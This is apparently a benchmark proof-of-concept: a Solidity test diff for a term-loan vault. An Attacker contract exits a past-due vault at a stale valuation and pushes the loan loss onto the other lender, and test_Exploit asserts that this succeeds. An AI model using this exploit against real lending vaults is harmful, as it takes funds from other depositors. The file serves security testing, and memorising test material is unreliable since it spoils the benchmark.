@@ -1,0 +1,192 @@
+// SPDX-License-Identifier: BUSL-1.1
+pragma solidity 0.8.30;
+
+// assay-canary-fc1509a1-cb74-449d-8153-93b67cf9343c
+
+import "./TermLoanVault.sol";
+
+interface Vm {
+    function warp(uint256 timestamp) external;
+}
+
+contract Dollar {
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+
+    function mint(address to, uint256 amount) external {
+        balanceOf[to] += amount;
+    }
+
+    function approve(address spender, uint256 amount) external returns (bool) {
+        allowance[msg.sender][spender] = amount;
+        return true;
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        balanceOf[msg.sender] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
+        allowance[from][msg.sender] -= amount;
+        balanceOf[from] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+}
+
+contract Lender {
+    TermLoanVault internal vault;
+
+    constructor(TermLoanVault vault_, Dollar dollar) {
+        vault = vault_;
+        dollar.approve(address(vault_), type(uint256).max);
+    }
+
+    function deposit(uint256 assets) external {
+        vault.deposit(assets, 0);
+    }
+
+    function redeem(uint256 shares) external returns (uint256) {
+        return vault.redeem(shares, 0);
+    }
+
+    function requestExit(uint256 shares) external {
+        vault.requestExit(shares);
+    }
+
+    function claim() external returns (uint256) {
+        return vault.claim();
+    }
+}
+
+/// A lender like any other. Leaves when a loan has fallen past due, as cheaply for itself as the vault allows.
+contract Attacker is Lender {
+    constructor(TermLoanVault vault_, Dollar dollar) Lender(vault_, dollar) {}
+
+    function leave() external {
+        vault.requestExit(vault.sharesOf(address(this)));
+        try vault.processQueue(10) {}
+        catch {
+            vault.book().revalue();
+            vault.processQueue(10);
+        }
+        vault.claim();
+    }
+}
+
+contract Proof {
+    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
+    uint256 private constant START = 1_790_000_000;
+
+    Dollar public dollar;
+    TermLoanVault public vault;
+    LoanBook public book;
+    Lender public lender;
+    Attacker public quitter;
+    uint256 public loan;
+
+    function setUp() public {
+        vm.warp(START);
+        dollar = new Dollar();
+        vault = new TermLoanVault(IERC20(address(dollar)), address(this));
+        book = vault.book();
+        dollar.approve(address(vault), type(uint256).max);
+        lender = new Lender(vault, dollar);
+        quitter = new Attacker(vault, dollar);
+        dollar.mint(address(lender), 800_000e6);
+        dollar.mint(address(quitter), 200_000e6);
+        lender.deposit(800_000e6);
+        quitter.deposit(200_000e6);
+
+        // This contract is the servicer, and the borrower of the loan.
+        loan = vault.lend(address(this), 500_000e6, 20_000e6, 30 days);
+        vm.warp(START + 29 days);
+        book.revalue();
+        // The loan falls past due; today's revaluation is yet to come.
+        vm.warp(START + 30 days + 6 hours);
+    }
+
+    // What the other lender's shares are worth, loan by loan.
+    function holdersValue() public view returns (uint256) {
+        uint256 gross = vault.idle() + book.appraise().value;
+        return ShareMath.toAssets(vault.sharesOf(address(lender)), gross, vault.totalShares());
+    }
+
+    function test_Regular() public {
+        require(holdersValue() == 600_000e6, "loss is shared");
+        try lender.redeem(1e12) {
+            revert("priced at an old mark");
+        } catch {}
+        book.revalue();
+        dollar.mint(address(lender), 1_000e6);
+        try lender.deposit(1_000e6) {
+            revert("deposit while past due");
+        } catch {}
+
+        // Immediate exit at the marked-down value.
+        uint256 paid = lender.redeem(80_000e12);
+        require(paid <= 60_000e6 && paid + 1 >= 60_000e6, "immediate exit");
+
+        // Both queue; idle cash serves the first and part of the second.
+        lender.requestExit(620_000e12);
+        quitter.requestExit(200_000e12);
+        try lender.redeem(1e12) {
+            revert("jumped the queue");
+        } catch {}
+        vault.processQueue(10);
+        uint256 due = vault.claimable(address(lender));
+        require(due <= 440_000e6 && due + 2 >= 440_000e6, "cash goes to the first");
+        require(vault.queueLength() == 2 && vault.idle() <= 1, "cash is used up");
+
+        // The borrower pays late and in full; the rest of the queue shares in it.
+        dollar.mint(address(this), 20_000e6);
+        require(vault.repay(loan) == 520_000e6, "late payoff");
+        require(book.carryingValue() == 0 && book.pastDue() == 0, "book is empty");
+        vm.warp(START + 40 days);
+        try vault.processQueue(10) {
+            revert("mark of last week");
+        } catch {}
+        book.revalue();
+        vault.processQueue(1);
+        vault.processQueue(10);
+        require(vault.queueLength() == 0, "queue is served");
+        uint256 first = lender.claim();
+        uint256 second = quitter.claim();
+        require(first > 439_999e6 && second > 150_000e6, "claims are paid");
+        require(dollar.balanceOf(address(quitter)) == second, "cash arrived");
+
+        // Deposits are open again; a new loan earns interest evenly.
+        dollar.mint(address(quitter), 100_000e6);
+        uint256 before = vault.previewRedeem(1e12);
+        quitter.deposit(100_000e6);
+        require(vault.previewRedeem(1e12) == before, "price unmoved by a deposit");
+        uint256 id = vault.lend(address(this), 50_000e6, 1_000e6, 10 days);
+        vm.warp(START + 45 days);
+        require(vault.grossAssets() - vault.idle() <= 50_500e6 && book.payoff(id) == 50_500e6, "half the interest");
+        require(book.payoff(id) - book.carryingValue() <= 1, "carried to the unit");
+        dollar.mint(address(this), 500e6);
+        vault.repay(id);
+        require(vault.grossAssets() == vault.idle(), "all cash");
+    }
+
+    function exploit() public {
+        quitter.leave();
+    }
+
+    function test_Exploit() public {
+        uint256 before = holdersValue();
+        exploit();
+        require(holdersValue() + 50_000e6 <= before, "the others keep their value");
+        require(dollar.balanceOf(address(quitter)) >= 200_000e6, "left with the loss");
+    }
+
+    function target() public view returns (address) {
+        return address(vault);
+    }
+
+    function attacker() public view returns (address) {
+        return address(quitter);
+    }
+}
